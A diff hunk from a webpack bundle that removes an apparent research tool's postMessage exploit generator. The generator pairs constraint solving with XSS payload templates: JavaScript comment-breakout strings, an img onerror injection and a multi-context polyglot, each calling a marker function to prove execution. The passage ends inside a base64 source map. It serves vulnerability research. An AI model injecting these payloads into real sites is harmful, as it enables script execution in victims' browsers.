@@ -107,7 +107,7 @@ eval("__webpack_require__.r(__webpack_exports__);\n/* harmony export (binding) *
 /***/ (function(module, __webpack_exports__, __webpack_require__) {
 
 "use strict";
-eval("__webpack_require__.r(__webpack_exports__);\n/* harmony export (binding) */ __webpack_require__.d(__webpack_exports__, \"generateExploitForReport\", function() { return generateExploitForReport; });\n/* harmony import */ var _util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(/*! ./util */ \"./util.js\");\n/*\nCopyright (C) 2020  Marius Steffens, CISPA\n\nThis program is free software: you can redistribute it and/or modify\nit under the terms of the GNU Affero General Public License as published by\nthe Free Software Foundation, either version 3 of the License, or\n(at your option) any later version.\n\nThis program is distributed in the hope that it will be useful,\nbut WITHOUT ANY WARRANTY; without even the implied warranty of\nMERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the\nGNU Affero General Public License for more details.\n\nYou should have received a copy of the GNU Affero General Public License\nalong with this program.  If not, see <http://www.gnu.org/licenses/>.\n*/\n\n\n\nconst SINK_MAPPING = {\n  'eval': 'JS',\n  'document.write': 'HTML',\n  'document.writeln': 'HTML',\n  'innerHTML': 'HTML',\n  'jquery': 'HTML',\n  'scriptTextContent': 'JS',\n  'insertAdjacentHTML': 'HTML',\n  'postMessage': 'PM',\n  'storage': 'storage',\n  'cookie': 'cookie',\n\n};\n\nfunction addPropToObj(obj, acc) {\n  if (typeof obj[acc] === 'object') {\n    // all good we have nothig to worry bout and can just add another one if necessary\n  } else {\n    // well we have constraint solved that parts of the thing needs to be that specific string\n    // substitute the string to a random key and hope for the best\n    let cur_value = obj[acc];\n    obj[acc] = {};\n    obj[acc]['__hope_for_the_best'] = cur_value;\n  }\n}\n\nfunction getJSExploits(sinkObject) {\n  let left, right;\n  let nonce_1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_2 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_3 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_4 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_5 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_6 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_7 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_8 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_9 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n\n\n  let exploits = new Map();\n  let startswith_exploit_1 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '__crawly__(\"' + nonce_1 + '\")/*'\n    ]\n  };\n  let endswith_exploit_1 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"endsWith\",\n    \"args\": [\n      ' */'\n    ]\n  };\n  left = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  right = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  left.ops.push(startswith_exploit_1);\n  right.ops.push(endswith_exploit_1);\n\n  let exp_1 = {type: 'Logical', op: '&&', l_val: left, r_val: right};\n  exploits.set(nonce_1, exp_1);\n\n  let startswith_exploit_2 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '(__crawly__(\"' + nonce_2 + '\")/*'\n    ]\n  };\n  let endswith_exploit_2 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"endsWith\",\n    \"args\": [\n      ' */)'\n    ]\n  };\n\n  left = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  right = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  left.ops.push(startswith_exploit_2);\n  right.ops.push(endswith_exploit_2);\n\n  let exp_2 = {type: 'Logical', op: '&&', l_val: left, r_val: right};\n  exploits.set(nonce_2, exp_2);\n\n  let endswith_exploit_3 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"endsWith\",\n    \"args\": [\n      ' */__crawly__(\"' + nonce_3 + '\")'\n    ]\n  };\n  let startswith_exploit_3 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '/*'\n    ]\n  };\n\n  left = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  right = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  left.ops.push(startswith_exploit_3);\n  right.ops.push(endswith_exploit_3);\n\n  let exp_3 = {type: 'Logical', op: '&&', l_val: left, r_val: right};\n  exploits.set(nonce_3, exp_3);\n\n  let kameeleon = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  kameeleon.ops.push({\n    type: \"Binary\",\n    op: '===',\n    side: 'left',\n    val: 'Kameleoon=1,__crawly__(\"' + nonce_4 + '\")'\n  });\n\n  exploits.set(nonce_4, kameeleon);\n\n  let startsWithFixObject = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  startsWithFixObject.ops.push({\n    type: \"member_function\",\n    function_name: \"endsWith\",\n    args: ['.toString(),__crawly__(\"' + nonce_5 + '\")']\n  });\n\n  exploits.set(nonce_5, startsWithFixObject);\n\n  let startsWithAssignement = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  startsWithAssignement.ops.push({\n    type: \"member_function\",\n    function_name: \"endsWith\",\n    args: ['1;__crawly__(\"' + nonce_6 + '\");']\n  });\n\n  exploits.set(nonce_6, startsWithAssignement);\n\n  let startsWithAssignementWithoutEqual = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  startsWithAssignementWithoutEqual.ops.push({\n    type: \"member_function\",\n    function_name: \"endsWith\",\n    args: ['=1;__crawly__(\"' + nonce_7 + '\");']\n  });\n\n  exploits.set(nonce_7, startsWithAssignementWithoutEqual);\n\n\n  let endsWithanything = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  endsWithanything.ops.push({\n    type: \"member_function\",\n    function_name: \"startsWith\",\n    args: ['__crawly__(\"' + nonce_8 + '\");//']\n  });\n\n  exploits.set(nonce_8, endsWithanything);\n\n  let wrapped_function = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  wrapped_function.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '(function(){__crawly__(\"' + nonce_9 + '\")})();//'\n    ]\n  });\n  exploits.set(nonce_9, wrapped_function);\n\n  return exploits;\n\n}\n\nfunction getStorageExploits(key_obj, val_obj) {\n  let exploits = new Map();\n  let nonce_1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n\n  let key_const = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(key_obj);\n  let val_const = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(val_obj);\n\n  key_const.ops.push({\n    \"type\": \"Binary\",\n    \"op\": '===',\n    \"side\": \"left\",\n    \"val\": nonce_1\n  });\n\n  val_const.ops.push({\n    \"type\": \"Binary\",\n    \"op\": '===',\n    \"side\": \"left\",\n    \"val\": nonce_1\n  });\n\n  exploits.set(nonce_1, {\n    \"type\": \"Logical\",\n    \"op\": '&&',\n    \"l_val\": key_const,\n    \"r_val\": val_const\n  });\n\n  return exploits\n}\n\nfunction getHTMLExploits(sinkObject) {\n  let exploits = new Map();\n\n  let nonce_1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let exp1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject)\n  let img_payload = '<img src=\"foo\" onerror=\"__crawly__(`__report_id`)\" onload=\"__crawly__(`__report_id`)\"><textarea>';\n  exp1.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"indexOf\",\n    \"args\": [img_payload.replace(/__report_id/g, nonce_1)],\n  });\n  exp1.ops.push({type: 'Binary', op: '>', side: 'left', val: 0})\n  exploits.set(nonce_1, exp1)\n  let nonce_3 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let exp3 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  let polyglot = \"`'\\\">--!></stYle/</titLe/</teXtarEa/</scRipt/><img/src=foo oNloAd=__crawly__(`__report_id`)//>\\x3e\\n\";\n  exp3.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"indexOf\",\n    \"args\": [polyglot.replace(/__report_id/g, nonce_3)],\n  });\n  exp3.ops.push({type: 'Binary', op: '>', side: 'left', val: 0});\n  exploits.set(nonce_3, exp3);\n\n\n  return exploits\n\n}\n\nfunction getOriginConstraints() {\n  return {\n    type: 'Logical', op: '||', l_val: {\n      \"ops\": [\n        {\n          \"type\": \"ops_on_parent_element\",\n          \"old_identifier\": \"event\",\n          \"old_ops\": []\n        },\n        {\n          \"type\": \"member_function\",\n          \"function_name\": \"substring\",\n          \"args\": [\n            0, 7\n          ]\n        },\n        {\n          \"type\": 'Binary',\n          \"side\": \"left\",\n          \"val\": \"http://\",\n          \"op\": '==='\n        }\n      ],\n      \"identifier\": \"event.origin\"\n    }, r_val: {\n      \"ops\": [\n        {\n          \"type\": \"ops_on_parent_element\",\n          \"old_identifier\": \"event\",\n          \"old_ops\": []\n        },\n        {\n          \"type\": \"member_function\",\n          \"function_name\": \"substring\",\n          \"args\": [\n            0, 8\n          ]\n        },\n        {\n          \"type\": 'Binary',\n          \"side\": \"left\",\n          \"val\": \"https://\",\n          \"op\": '==='\n        }\n      ],\n      \"identifier\": \"event.origin\"\n    }\n  }\n}\n\nfunction getCookieExploits(sinkObject) {\n  let nonce1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let exploits = new Map();\n\n\n  let constraints = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  constraints.ops.push({\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [nonce1 + '=' + nonce1 + ';']\n  });\n  exploits.set(nonce1, constraints);\n\n  return exploits\n}\n\nasync function generateExploitForReport(report, handler_id) {\n  console.log('=============');\n  console.log('Starting exploit generation for ', report);\n  let inferred_types = {};\n  try {\n    //inferred_types = inferTypes(report.ev)\n    inferred_types = report.typeInfo;\n  } catch (e) {\n    console.error('Error when infering types', e)\n  }\n  let sink_obj_constraints;\n  switch (SINK_MAPPING[report.sink]) {\n    case 'JS':\n      sink_obj_constraints = getJSExploits(report.sinkObject);\n      break;\n    case 'HTML':\n      sink_obj_constraints = getHTMLExploits(report.sinkObject);\n      break;\n    case 'storage':\n      sink_obj_constraints = getStorageExploits(report.key_obj, report.val_obj);\n      break;\n    case 'cookie':\n      sink_obj_constraints = getCookieExploits(report.sinkObject);\n      break;\n\n    default:\n      throw Error('Sink not yet supported ' + report.sink)\n  }\n\n  let cs = report['constraints'];\n  let constraintId = await window.__reportBaseConstraint(cs, handler_id);\n\n  let origin_constraint = getOriginConstraints();\n  let exploit_candidates = [];\n  for (let exploitId of sink_obj_constraints.keys()) {\n    let candidate = sink_obj_constraints.get(exploitId);\n    let cs_cloned = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(cs);\n    // append exploit constraints\n    cs_cloned.push(candidate);\n    // append constraints for origin, e.g. starts with http etc\n    cs_cloned.push(origin_constraint);\n    // solve\n    let res = await window.__trySolveForSat(cs_cloned, inferred_types, constraintId, [candidate, origin_constraint], report['sink']);\n    if (res !== undefined) {\n      exploit_candidates.push({exploitCandidateId: res[1], exploitId: exploitId, payload_sat: res[0]});\n    }\n  }\n  if (exploit_candidates.length === 0) {\n    return undefined\n  }\n  let messages = [];\n  for (let entry of exploit_candidates) {\n    let mess1 = generateObjectFromAssignements(entry['payload_sat']['assignements'])['event'];\n    let mess2 = generateObjectFromAssignements(entry['payload_sat']['assignements'], undefined, false)['event'];\n    messages.push({\n      exploitId: entry['exploitId'],\n      exploitCandidateId: entry['exploitCandidateId'],\n      message: adjustForTypes(mess1, entry['payload_sat']['types'])\n    });\n    messages.push({\n      exploitId: entry['exploitId'],\n      exploitCandidateId: entry['exploitCandidateId'],\n      message: adjustForTypes(mess2, entry['payload_sat']['types'])\n    });\n\n  }\n  return {\n    candidates: messages,\n    sink: report.sink\n  };\n}\n\nfunction adjustForTypes(obj, types) {\n  for (let key of Object.keys(types)) {\n    if (types[key] !== 'JSON') {\n      continue;\n    }\n    let splitted = key.split('.');\n    let last = splitted.slice(-1);\n    let accessors = splitted.slice(0, splitted.length - 1);\n    let cur_obj = obj;\n    for (let accessor of accessors) {\n      if (accessor.startsWith('__elem__')) {\n        let num = parseInt(accessor.slice(8));\n        if (!Array.isArray(cur_obj)) {\n        }\n        accessor = num;\n      }\n      if (cur_obj[accessor] === undefined) {\n        break;\n      }\n      cur_obj = cur_obj[accessor];\n    }\n    cur_obj[last] = JSON.stringify(cur_obj[last])\n  }\n  return obj\n}\n\nfunction generateObjectFromAssignements(assignement, obj = undefined, dont_use_empty = true) {\n  if (obj === undefined) {\n    obj = {};\n  }\n  for (let key of Object.keys(assignement)) {\n    if (dont_use_empty && assignement[key] === '') {\n      continue\n    }\n    if (typeof assignement[key] === 'string') {\n      assignement[key] = assignement[key].replace(/\\\\x([0-9A-F]{2})/ig, function () {\n        return String.fromCharCode(parseInt(arguments[1], 16));\n      });\n    }\n    let splitted = key.split('.');\n    let last = splitted.slice(-1);\n    let accessors = splitted.slice(0, splitted.length - 1);\n    let cur_obj = obj;\n    for (let accessor of accessors) {\n      if (accessor.startsWith('__elem__')) {\n        let num = parseInt(accessor.slice(8));\n        if (!Array.isArray(cur_obj)) {\n        }\n        accessor = num;\n      }\n      if (cur_obj[accessor] === undefined) {\n        cur_obj[accessor] = {};\n      } else {\n        addPropToObj(cur_obj, accessor);\n      }\n      cur_obj = cur_obj[accessor];\n    }\n    if (cur_obj[last[0]] === undefined)\n      cur_obj[last[0]] = assignement[key];\n    else {\n      // this case only happens when we have an assignement for a parent object which is however already an object thus we cannot do it\n      cur_obj[last[0]]['__hope_for_the_best'] = assignement[key]\n    }\n  }\n  resolveSubstituteVals(obj, obj);\n  return obj;\n}\n\nfunction resolveSubstituteVals(obj, g) {\n  if (Array.isArray(obj)) {\n    for (let i = 0; i < obj.length; i++) {\n      let elem = resolveSubstituteVals(obj[i], g);\n      if (elem) {\n        obj[i] = elem;\n      }\n    }\n  } else if (typeof obj === 'object') {\n    for (let key of Object.keys(obj)) {\n      let elem = resolveSubstituteVals(obj[key], g);\n      if (elem) {\n        obj[key] = elem\n      }\n    }\n  } else if (typeof obj === 'string' && obj.startsWith('__substitute_values_')) {\n    return g[obj];\n  }\n}\n\n\n//# sourceURL=[module]\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozLCJmaWxlIjoiLi9FeHBsb2l0R2VuZXJhdG9yLmpzLmpzIiwic291cmNlcyI6WyJ3ZWJwYWNrOi8vUE1BbmFseXplci8uL0V4cGxvaXRHZW5lcmF0b3IuanM/MzhmNiJdLCJzb3VyY2VzQ29udGVudCI6WyIvKlxuQ29weXJpZ2h0IChDKSAyMDIwICBNYXJpdXMgU3RlZmZlbnMsIENJU1BBXG5cblRoaXMgcHJvZ3JhbSBpcyBmcmVlIHNvZnR3YXJlOiB5b3UgY2FuIHJlZGlzdHJpYnV0ZSBpdCBhbmQvb3IgbW9kaWZ5XG5pdCB1bmRlciB0aGUgdGVybXMgb2YgdGhlIEdOVSBBZmZlcm8gR2VuZXJhbCBQdWJsaWMgTGljZW5zZSBhcyBwdWJsaXNoZWQgYnlcbnRoZSBGcmVlIFNvZnR3YXJlIEZvdW5kYXRpb24sIGVpdGhlciB2ZXJzaW9uIDMgb2YgdGhlIExpY2Vuc2UsIG9yXG4oYXQgeW91ciBvcHRpb24pIGFueSBsYXRlciB2ZXJzaW9uLlxuXG5UaGlzIHByb2dyYW0gaXMgZGlzdHJpYnV0ZWQgaW4gdGhlIGhvcGUgdGhhdCBpdCB3aWxsIGJlIHVzZWZ1bCxcbmJ1dCBXSVRIT1VUIEFOWSBXQVJSQU5UWTsgd2l0aG91dCBldmVuIHRoZSBpbXBsaWVkIHdhcnJhbnR5IG9mXG5NRVJDSEFOVEFCSUxJVFkgb3IgRklUTkVTUyBGT1IgQSBQQVJUSUNVTEFSIFBVUlBPU0UuICBTZWUgdGhlXG5HTlUgQWZmZXJvIEdlbmVyYWwgUHVibGljIExpY2Vuc2UgZm9yIG1vcmUgZGV0YWlscy5cblxuWW91IHNob3VsZCBoYXZlIHJlY2VpdmVkIGEgY29weSBvZiB0aGUgR05VIEFmZmVybyBHZW5lcmFsIFB1YmxpYyBMaWNlbnNlXG5hbG9uZyB3aXRoIHRoaXMgcHJvZ3JhbS4gIElmIG5vdCwgc2VlIDxodHRwOi8vd3d3LmdudS5vcmcvbGljZW5zZXMvPi5cbiovXG5cbmltcG9ydCB7ZGVlcENsb25lLCByYW5kb21TdHJpbmd9IGZyb20gXCIuL3V0aWxcIjtcblxuY29uc3QgU0lOS19NQVBQSU5HID0ge1xuICAnZXZhbCc6ICdKUycsXG4gICdkb2N1bWVudC53cml0ZSc6ICdIVE1MJyxcbiAgJ2RvY3VtZW50LndyaXRlbG4nOiAnSFRNTCcsXG4gICdpbm5lckhUTUwnOiAnSFRNTCcsXG4gICdqcXVlcnknOiAnSFRNTCcsXG4gICdzY3JpcHRUZXh0Q29udGVudCc6ICdKUycsXG4gICdpbnNlcnRBZGphY2VudEhUTUwnOiAnSFRNTCcsXG4gICdwb3N0TWVzc2FnZSc6ICdQTScsXG4gICdzdG9yYWdlJzogJ3N0b3JhZ2UnLFxuICAnY29va2llJzogJ2Nvb2tpZScsXG5cbn07XG5cbmZ1bmN0aW9uIGFkZFByb3BUb09iaihvYmosIGFjYykge1xuICBpZiAodHlwZW9mIG9ialthY2NdID09PSAnb2JqZWN0Jykge1xuICAgIC8vIGFsbCBnb29kIHdlIGhhdmUgbm90aGlnIHRvIHdvcnJ5IGJvdXQgYW5kIGNhbiBqdXN0IGFkZCBhbm90aGVyIG9uZSBpZiBuZWNlc3NhcnlcbiAgfSBlbHNlIHtcbiAgICAvLyB3ZWxsIHdlIGhhdmUgY29uc3RyYWludCBzb2x2ZWQgdGhhdCBwYXJ0cyBvZiB0aGUgdGhpbmcgbmVlZHMgdG8gYmUgdGhhdCBzcGVjaWZpYyBzdHJpbmdcbiAgICAvLyBzdWJzdGl0dXRlIHRoZSBzdHJpbmcgdG8gYSByYW5kb20ga2V5IGFuZCBob3BlIGZvciB0aGUgYmVzdFxuICAgIGxldCBjdXJfdmFsdWUgPSBvYmpbYWNjXTtcbiAgICBvYmpbYWNjXSA9IHt9O1xuICAgIG9ialthY2NdWydfX2hvcGVfZm9yX3RoZV9iZXN0J10gPSBjdXJfdmFsdWU7XG4gIH1cbn1cblxuZnVuY3Rpb24gZ2V0SlNFeHBsb2l0cyhzaW5rT2JqZWN0KSB7XG4gIGxldCBsZWZ0LCByaWdodDtcbiAgbGV0IG5vbmNlXzEgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzIgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzMgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzQgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzUgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzYgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzcgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzggPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IG5vbmNlXzkgPSByYW5kb21TdHJpbmcoKTtcblxuXG4gIGxldCBleHBsb2l0cyA9IG5ldyBNYXAoKTtcbiAgbGV0IHN0YXJ0c3dpdGhfZXhwbG9pdF8xID0ge1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcInN0YXJ0c1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJ19fY3Jhd2x5X18oXCInICsgbm9uY2VfMSArICdcIikvKidcbiAgICBdXG4gIH07XG4gIGxldCBlbmRzd2l0aF9leHBsb2l0XzEgPSB7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwiZW5kc1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJyAqLydcbiAgICBdXG4gIH07XG4gIGxlZnQgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHJpZ2h0ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBsZWZ0Lm9wcy5wdXNoKHN0YXJ0c3dpdGhfZXhwbG9pdF8xKTtcbiAgcmlnaHQub3BzLnB1c2goZW5kc3dpdGhfZXhwbG9pdF8xKTtcblxuICBsZXQgZXhwXzEgPSB7dHlwZTogJ0xvZ2ljYWwnLCBvcDogJyYmJywgbF92YWw6IGxlZnQsIHJfdmFsOiByaWdodH07XG4gIGV4cGxvaXRzLnNldChub25jZV8xLCBleHBfMSk7XG5cbiAgbGV0IHN0YXJ0c3dpdGhfZXhwbG9pdF8yID0ge1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcInN0YXJ0c1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJyhfX2NyYXdseV9fKFwiJyArIG5vbmNlXzIgKyAnXCIpLyonXG4gICAgXVxuICB9O1xuICBsZXQgZW5kc3dpdGhfZXhwbG9pdF8yID0ge1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcImVuZHNXaXRoXCIsXG4gICAgXCJhcmdzXCI6IFtcbiAgICAgICcgKi8pJ1xuICAgIF1cbiAgfTtcblxuICBsZWZ0ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICByaWdodCA9IGRlZXBDbG9uZShzaW5rT2JqZWN0KTtcbiAgbGVmdC5vcHMucHVzaChzdGFydHN3aXRoX2V4cGxvaXRfMik7XG4gIHJpZ2h0Lm9wcy5wdXNoKGVuZHN3aXRoX2V4cGxvaXRfMik7XG5cbiAgbGV0IGV4cF8yID0ge3R5cGU6ICdMb2dpY2FsJywgb3A6ICcmJicsIGxfdmFsOiBsZWZ0LCByX3ZhbDogcmlnaHR9O1xuICBleHBsb2l0cy5zZXQobm9uY2VfMiwgZXhwXzIpO1xuXG4gIGxldCBlbmRzd2l0aF9leHBsb2l0XzMgPSB7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwiZW5kc1dpdGhcIixcbiAgICBcImFyZ3NcIjogW1xuICAgICAgJyAqL19fY3Jhd2x5X18oXCInICsgbm9uY2VfMyArICdcIiknXG4gICAgXVxuICB9O1xuICBsZXQgc3RhcnRzd2l0aF9leHBsb2l0XzMgPSB7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3RhcnRzV2l0aFwiLFxuICAgIFwiYXJnc1wiOiBbXG4gICAgICAnLyonXG4gICAgXVxuICB9O1xuXG4gIGxlZnQgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHJpZ2h0ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBsZWZ0Lm9wcy5wdXNoKHN0YXJ0c3dpdGhfZXhwbG9pdF8zKTtcbiAgcmlnaHQub3BzLnB1c2goZW5kc3dpdGhfZXhwbG9pdF8zKTtcblxuICBsZXQgZXhwXzMgPSB7dHlwZTogJ0xvZ2ljYWwnLCBvcDogJyYmJywgbF92YWw6IGxlZnQsIHJfdmFsOiByaWdodH07XG4gIGV4cGxvaXRzLnNldChub25jZV8zLCBleHBfMyk7XG5cbiAgbGV0IGthbWVlbGVvbiA9IGRlZXBDbG9uZShzaW5rT2JqZWN0KTtcbiAga2FtZWVsZW9uLm9wcy5wdXNoKHtcbiAgICB0eXBlOiBcIkJpbmFyeVwiLFxuICAgIG9wOiAnPT09JyxcbiAgICBzaWRlOiAnbGVmdCcsXG4gICAgdmFsOiAnS2FtZWxlb29uPTEsX19jcmF3bHlfXyhcIicgKyBub25jZV80ICsgJ1wiKSdcbiAgfSk7XG5cbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzQsIGthbWVlbGVvbik7XG5cbiAgbGV0IHN0YXJ0c1dpdGhGaXhPYmplY3QgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHN0YXJ0c1dpdGhGaXhPYmplY3Qub3BzLnB1c2goe1xuICAgIHR5cGU6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgZnVuY3Rpb25fbmFtZTogXCJlbmRzV2l0aFwiLFxuICAgIGFyZ3M6IFsnLnRvU3RyaW5nKCksX19jcmF3bHlfXyhcIicgKyBub25jZV81ICsgJ1wiKSddXG4gIH0pO1xuXG4gIGV4cGxvaXRzLnNldChub25jZV81LCBzdGFydHNXaXRoRml4T2JqZWN0KTtcblxuICBsZXQgc3RhcnRzV2l0aEFzc2lnbmVtZW50ID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBzdGFydHNXaXRoQXNzaWduZW1lbnQub3BzLnB1c2goe1xuICAgIHR5cGU6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgZnVuY3Rpb25fbmFtZTogXCJlbmRzV2l0aFwiLFxuICAgIGFyZ3M6IFsnMTtfX2NyYXdseV9fKFwiJyArIG5vbmNlXzYgKyAnXCIpOyddXG4gIH0pO1xuXG4gIGV4cGxvaXRzLnNldChub25jZV82LCBzdGFydHNXaXRoQXNzaWduZW1lbnQpO1xuXG4gIGxldCBzdGFydHNXaXRoQXNzaWduZW1lbnRXaXRob3V0RXF1YWwgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIHN0YXJ0c1dpdGhBc3NpZ25lbWVudFdpdGhvdXRFcXVhbC5vcHMucHVzaCh7XG4gICAgdHlwZTogXCJtZW1iZXJfZnVuY3Rpb25cIixcbiAgICBmdW5jdGlvbl9uYW1lOiBcImVuZHNXaXRoXCIsXG4gICAgYXJnczogWyc9MTtfX2NyYXdseV9fKFwiJyArIG5vbmNlXzcgKyAnXCIpOyddXG4gIH0pO1xuXG4gIGV4cGxvaXRzLnNldChub25jZV83LCBzdGFydHNXaXRoQXNzaWduZW1lbnRXaXRob3V0RXF1YWwpO1xuXG5cbiAgbGV0IGVuZHNXaXRoYW55dGhpbmcgPSBkZWVwQ2xvbmUoc2lua09iamVjdCk7XG4gIGVuZHNXaXRoYW55dGhpbmcub3BzLnB1c2goe1xuICAgIHR5cGU6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgZnVuY3Rpb25fbmFtZTogXCJzdGFydHNXaXRoXCIsXG4gICAgYXJnczogWydfX2NyYXdseV9fKFwiJyArIG5vbmNlXzggKyAnXCIpOy8vJ11cbiAgfSk7XG5cbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzgsIGVuZHNXaXRoYW55dGhpbmcpO1xuXG4gIGxldCB3cmFwcGVkX2Z1bmN0aW9uID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICB3cmFwcGVkX2Z1bmN0aW9uLm9wcy5wdXNoKHtcbiAgICBcInR5cGVcIjogXCJtZW1iZXJfZnVuY3Rpb25cIixcbiAgICBcImZ1bmN0aW9uX25hbWVcIjogXCJzdGFydHNXaXRoXCIsXG4gICAgXCJhcmdzXCI6IFtcbiAgICAgICcoZnVuY3Rpb24oKXtfX2NyYXdseV9fKFwiJyArIG5vbmNlXzkgKyAnXCIpfSkoKTsvLydcbiAgICBdXG4gIH0pO1xuICBleHBsb2l0cy5zZXQobm9uY2VfOSwgd3JhcHBlZF9mdW5jdGlvbik7XG5cbiAgcmV0dXJuIGV4cGxvaXRzO1xuXG59XG5cbmZ1bmN0aW9uIGdldFN0b3JhZ2VFeHBsb2l0cyhrZXlfb2JqLCB2YWxfb2JqKSB7XG4gIGxldCBleHBsb2l0cyA9IG5ldyBNYXAoKTtcbiAgbGV0IG5vbmNlXzEgPSByYW5kb21TdHJpbmcoKTtcblxuICBsZXQga2V5X2NvbnN0ID0gZGVlcENsb25lKGtleV9vYmopO1xuICBsZXQgdmFsX2NvbnN0ID0gZGVlcENsb25lKHZhbF9vYmopO1xuXG4gIGtleV9jb25zdC5vcHMucHVzaCh7XG4gICAgXCJ0eXBlXCI6IFwiQmluYXJ5XCIsXG4gICAgXCJvcFwiOiAnPT09JyxcbiAgICBcInNpZGVcIjogXCJsZWZ0XCIsXG4gICAgXCJ2YWxcIjogbm9uY2VfMVxuICB9KTtcblxuICB2YWxfY29uc3Qub3BzLnB1c2goe1xuICAgIFwidHlwZVwiOiBcIkJpbmFyeVwiLFxuICAgIFwib3BcIjogJz09PScsXG4gICAgXCJzaWRlX